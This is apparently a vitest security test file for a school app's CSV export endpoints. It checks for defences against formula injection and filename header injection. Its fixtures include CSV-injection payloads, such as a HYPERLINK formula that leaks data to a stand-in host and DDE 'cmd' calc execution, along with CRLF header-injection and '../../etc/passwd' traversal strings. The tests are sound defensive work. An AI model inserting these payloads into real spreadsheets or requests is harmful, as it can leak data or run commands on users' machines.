import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CALLS, nameOf } from '../../tests/calls/all.ts';
import { DAY, makeWorld, type World } from '../../tests/calls/world.ts';
import { signedInClient, startServer, type TestClient, type TestServer } from '../../tests/support/server.ts';

/** Texts that a spreadsheet would run as a formula. The last two begin with full-width characters from East Asian keyboards. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://x.example?leak="&A2,"Open")',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '=1+1\r\n=2+2',
  '","=1+1',
  '";=1+1;"',
  '＝1+1',
  '＠SUM(1)',
];
/** Texts that only a field with several lines may contain. */
const IN_NOTES = ['\t=1+1', '\r=1+1', '\n=1+1', 'fine\n=1+1'];
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;
const NUMBER = /^-?\d+(?:\.\d+)?$/;

let server: TestServer;
let ann: TestClient;
let world: World;
/** Class names may contain only letters, digits, `_` and `-`. */
const CLASS_NAME = '-体育 1_';
beforeAll(async () => {
  server = await startServer({ limits: false });
  ann = await signedInClient(server, 'ann@school.org');
  world = await makeWorld(ann);
  const { klass, ana } = world;
  await done('PATCH', 'classes', { id: klass, name: `${CLASS_NAME} PE` });
  const students = FORMULAS.map((text) => ({ classId: klass, fullName: text, nickname: text, note: text }));
  const ids = (await done<{ id: number }[]>('POST', 'students/create-many', { students })).map(({ id }) => id);
  await done(
    'PATCH',
    'students/update-many',
    IN_NOTES.map((note, n) => ({ id: ids[n], note })),
  );
  const texts = [...FORMULAS, ...IN_NOTES].map((text) => [...text].slice(0, 20).join(''));
  const entries = texts.map((note, n) => ({
    studentId: ana,
    createdAt: `2026-10-${10 + n}`,
    value: -7 - n,
    note1: note,
    note1State: 'a',
    note2: note,
    note2State: 'a',
    customNote: n % 2 === 0 ? '' : note,
  }));
  await done('POST', 'students/daily-points/create-many', { entries });
  for (const name of FORMULAS) {
    const short = [...name]
      .slice(0, 30)
      .join('')
      .replaceAll(/[\r\n]+/g, ' ');
    const values = [...FORMULAS.slice(0, 9), '-7', '-0.5', '24'];
    const assessmentScores = ids.map((studentId, n) => ({ studentId, fieldId: 1, value: values[n] ?? '' }));
    await done('POST', 'assessments', { classId: klass, name: short, assessmentTemplateId: 1, assessmentScores });
  }
});
afterAll(async () => {
  await server.close();
});

async function done<T>(method: 'POST' | 'PATCH', path: string, body: object): Promise<T> {
  const answer = await ann.call(method, path, { body });
  if (answer.statusCode > 201) throw new Error(`${path}: ${answer.body}`);
  return answer.json<T>();
}

const FILES = CALLS.filter(({ endpoint }) => endpoint.type === 'csv');
describe.each(FILES.map((call) => [nameOf(call.endpoint), call] as const))('the CSV file of the call %s', (_, call) => {
  const file = async () => {
    const { path } = call.ask(world);
    return await ann.call('GET', path.replaceAll(`=${DAY}`, '=2026-10-20'));
  };

  it('6.6 a CSV file of the server has no cell that a spreadsheet would run as a formula, and its numbers stay numbers', async () => {
    const { body } = await file();
    const { data, errors } = Papa.parse<string[]>(body.slice(1), { newline: '\r\n', delimiter: ',' });
    expect(errors).toEqual([]);
    expect(data.length).toBeGreaterThan(2);
    const width = data[0]?.length;
    expect(data.slice(0, -1).filter((row) => row.length !== width)).toEqual([]);
    const cells = data.flat();
    expect(cells.filter((cell) => RUNS.test(cell) && !NUMBER.test(cell))).toEqual([]);
    expect(cells.some((cell) => cell.startsWith("'="))).toBe(true);
    expect(cells.filter((cell) => /^'-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it('6.12 the answer has one content-disposition header of one line, which contains the whole name of the CSV file', async () => {
    const { headers } = await file();
    const header = String(headers['content-disposition']);
    expect(header).toMatch(
      /^attachment; filename="[\x20\x21\x23-\x24\x26-\x5b\x5d-\x7e]+\.csv"; filename\*=UTF-8''[\w.!#$&+^`|~%-]+\.csv$/,
    );
    expect(decodeURIComponent(header.split("''")[1] ?? '')).toMatch(/^(?:-体育 1_ PE|Rivera, Ana)[^/\\:*?"<>|]*\.csv$/);
  });
});

it('6.6 the server writes a negative number into a CSV file as a number, without the apostrophe that protects texts', async () => {
  const lines = async (path: string) => (await ann.call('GET', path)).body.split('\r\n');
  const range = 'startDate=2026-10-01&endDate=2026-10-31';
  expect((await lines(`students/${world.ana}/daily-points-summary/csv?${range}`))[1]).toMatch(/^2026-10-10,0,-7,,/);
  expect((await lines(`classes/${world.klass}/daily-points-summary/csv?${range}`)).join()).toMatch(
    /"Rivera, Ana",0,-\d+,/,
  );
  expect((await lines(`assessments/getAllCSV/${world.klass}`)).join()).toMatch(/,-7,-7,.*,-0\.5,-0\.5,/s);
});

const NAMES = [
  'a"; filename="evil.exe',
  'a\r\nset-cookie: x=1',
  '../../etc/passwd',
  'C:\\x',
  'a%0d%0ab',
  "it''s*(1)",
  '\u202egpj',
  '😀;é',
  '.hidden',
];
it.each(NAMES)(
  '6.12 if the nickname of a student is %j, the name of the CSV file adds no header to the answer and contains no folder',
  async (nickname) => {
    await done('PATCH', 'students', { id: world.ben, nickname });
    const { headers, statusCode } = await ann.call('GET', `students/${world.ben}/daily-points-summary/csv`);
    const header = String(headers['content-disposition']);
    const [, plain = '', encoded = ''] =
      /^attachment; filename="([^"\\]+)"; filename\*=UTF-8''([\w.!#$&+^`|~%-]+)$/.exec(header) ?? [];
    expect([statusCode, headers['set-cookie']]).toEqual([200, undefined]);
    // The server does not store characters that change the text direction (3.1).
    const stored = nickname.replaceAll('\u202e', '');
    const wanted = stored.replaceAll(/\s+/g, ' ').replaceAll(/[/\\:*?"<>|]/g, '-');
    expect(decodeURIComponent(encoded).startsWith(`${wanted}_Grades_`)).toBe(true);
    expect(plain).toMatch(/^[\x20-\x7e]+_\.csv$|^[\x20-\x7e]+\.csv$/);
    for (const name of [plain, decodeURIComponent(encoded)]) expect(name).not.toMatch(/[/\\:]/);
  },
);
